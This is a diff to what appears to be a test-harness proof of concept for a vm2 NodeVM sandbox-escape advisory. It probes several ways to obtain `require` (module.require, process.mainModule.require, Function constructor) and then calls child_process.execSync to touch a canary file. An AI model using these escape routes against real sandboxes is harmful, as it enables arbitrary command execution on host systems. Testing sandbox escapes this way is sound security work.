@@ -2,25 +2,12 @@
 // The chain below follows the advisory's repro.js, or vm2's lib/ comment for it where the repro was not read.
 // NodeVM only: the advisory needs NodeVM's `require`. A scenario runs in a plain vm2 VM with no
 // `require`, `module` or `process`, so the PoC first looks for every way to a `require` the public
-// PoCs use, then runs the advisory's chain with whatever it found.
+// PoCs use (`__wr.eachRequire`), then runs the advisory's chain with whatever it found.
 // Tried: require('child_process').execSync.
 const out = {};
-const routes = {
-  require: () => require,
-  moduleRequire: () => module.require,
-  mainModuleRequire: () => process.mainModule.require,
-  getBuiltinModule: () => process.getBuiltinModule,
-  globalRequire: () => globalThis.require,
-  functionRequire: () => Function('return require')(),
-};
-for (const [label, get] of Object.entries(routes)) {
-  let req;
-  try { req = get(); } catch (e) { out[label] = String(e.message).slice(0, 60); continue; }
-  out[label] = typeof req;
-  if (typeof req !== 'function') continue;
-  __wr.useRequire(req, label);
+await __wr.eachRequire(out, async (req, label) => {
   try {
     req('child_process').execSync('touch ' + JSON.stringify(query.canaryTouch));
   } catch (e) { out[label + 'Chain'] = String(e && e.message).slice(0, 60); }
-}
+});
 return out;
